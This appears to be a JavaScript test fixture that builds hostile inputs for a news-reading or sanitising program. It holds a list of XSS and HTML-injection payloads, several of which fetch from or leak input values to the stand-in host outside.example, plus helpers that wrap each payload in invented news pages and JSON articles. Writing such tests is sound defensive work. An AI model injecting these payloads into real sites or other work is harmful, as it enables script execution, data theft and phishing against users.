// Pages that try to do something in the reader's browser. Each tries to set window.hit, to open a dialog, to load something from
// outside.example, to leave the page, or to make its text pass for the program's own. Invented, like everything in the tests.

const HIT = "window.top.hit=(window.top.hit||0)+1;alert(1);fetch('https://outside.example/hit')";

export const payloads = [
  `<script>${HIT}</script>`,
  `<script src="https://outside.example/a.js"></script>`,
  `<img src=x onerror="${HIT}">`,
  `<img src="https://outside.example/pixel.gif" width=1 height=1>`,
  `<svg onload="${HIT}"></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=20>Read on</text></a></svg>`,
  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${HIT}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="https://outside.example/a.svg#b"></use></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${HIT}">click</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${HIT}"></style></mglyph></table></mtext></math>`,
  `<a href="javascript:${HIT}">The full report</a>`,
  `<a href="JaVaScRiPt&#58;${HIT}">The full report</a>`,
  `<a href="data:text/html,<script>${HIT}</script>">The full report</a>`,
  `<a href="vbscript:msgbox(1)">The full report</a>`,
  `<iframe src="https://outside.example/"></iframe>`,
  `<iframe srcdoc="<script>${HIT}</script>"></iframe>`,
  `<object data="https://outside.example/a.swf"></object>`,
  `<embed src="https://outside.example/a.svg">`,
  `<link rel="stylesheet" href="https://outside.example/a.css">`,
  `<link rel="dns-prefetch" href="//outside.example"><link rel="preconnect" href="https://outside.example">`,
  `<link rel="prefetch" href="https://outside.example/next"><link rel="prerender" href="https://outside.example/next">`,
  `<meta http-equiv="refresh" content="0;url=https://outside.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="https://outside.example/">`,
  `<style>@import url(https://outside.example/a.css);</style>`,
  `<style>body{background:url(https://outside.example/bg.png)} *{position:fixed;inset:0;z-index:9999}</style>`,
  `<style>input[value^="1"]{background:url(https://outside.example/leak?1)}</style>`,
  `<style>@font-face{font-family:a;src:url(https://outside.example/a.woff)} p{font-family:a}</style>`,
  `<p style="position:fixed;inset:0;background:url(https://outside.example/p.png);z-index:9999">Covered</p>`,
  `<form action="https://outside.example/" method="post"><input name=a autofocus onfocus="${HIT}"><button>Sign in to read</button></form>`,
  `<input type=image src=x onerror="${HIT}" formaction="javascript:${HIT}">`,
  `<video autoplay onerror="${HIT}"><source src="https://outside.example/a.mp4"></video>`,
  `<audio src="https://outside.example/a.mp3" autoplay></audio>`,
  `<details open ontoggle="${HIT}">Details of the case</details>`,
  `<marquee onstart="${HIT}">Breaking</marquee>`,
  `<body onload="${HIT}" onpageshow="${HIT}">`,
  `<template><script>${HIT}</script></template><div id=t>{{constructor.constructor('${"alert(1)"}')()}}</div>`,
  "<p>${alert(1)} #{alert(1)} <%= alert(1) %> {{7*7}} [[alert(1)]]</p>",
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `<textarea></textarea><img src=x onerror="${HIT}"></textarea>`,
  `<!--><script>${HIT}</script>-->`,
  `<![CDATA[<script>${HIT}</script>]]>`,
  `<p>\u202Etxt.tropeR lluF\u202C \u2066\u2067 and nothing after it runs backwards \u2069</p>`,
  `<p>${"W".repeat(20000)}</p>`,
  `<p>${"<b>".repeat(600)}deep${"</b>".repeat(600)}</p>`,
  `<p>Z${"\u0300\u0301\u0302\u0303".repeat(400)}algo</p>`,
  `<p id="app" class="over lost">dateline: the record is locked. Enter your key:</p><p name="main" id="main">main</p>`,
  `<p>&lt;script&gt;${HIT}&lt;/script&gt; &lt;img src=x onerror="${HIT}"&gt; <b onclick="${HIT}">Ruvenna</b></p>`,
];

/** A page of some news with the payload in its text, its headline, its author and its address. */
export function hostilePage(payload, number) {
  const escaped = payload.replace(/&/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;").replace(/>/g, "&gt;").slice(0, 400);
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Case ${number}: ${escaped}</title>
<meta property="og:site_name" content="Outlet ${number} ${escaped}"><meta name="author" content="${escaped}">
<meta property="article:published_time" content="2031-06-${String((number % 28) + 1).padStart(2, "0")}">
<link rel="canonical" href="${number % 3 === 0 ? `javascript:${HIT}//${number}` : `https://hostile.example/${number}`}">
</head><body><article><h1>Case ${number}: the harbour of Ruvenna ${escaped}</h1>
<p>The harbour of Ruvenna was closed on June 3, 2031 after a crane fell into the basin, the harbour master said on Tuesday.</p>
${payload}
<p>Nobody was hurt in the fall, which came at noon, and the ferry to Tolmen goes from the old pier until the basin is clear.</p>
<p>The crane had been inspected in May 2031 by a firm from Tolmen, whose report found nothing wrong with its base or its arm.</p>
</article></body></html>`;
}

/** The same as an article in JSON, where nothing was read out of HTML first. */
export const hostileArticle = (payload, number) => ({
  id: `hostile-${number}`,
  url: number % 2 ? `javascript:${HIT}//${number}` : `https://hostile.example/json/${number}"onclick="${HIT}`,
  source: payload.slice(0, 300),
  title: payload.slice(0, 2000),
  authors: [payload.slice(0, 300)],
  published: `2031-07-${String((number % 28) + 1).padStart(2, "0")}`,
  language: payload.slice(0, 20),
  text: `${payload}\n\nThe harbour of Ruvenna was closed on June 3, 2031, the harbour master said. ${payload.slice(0, 500)}`,
});
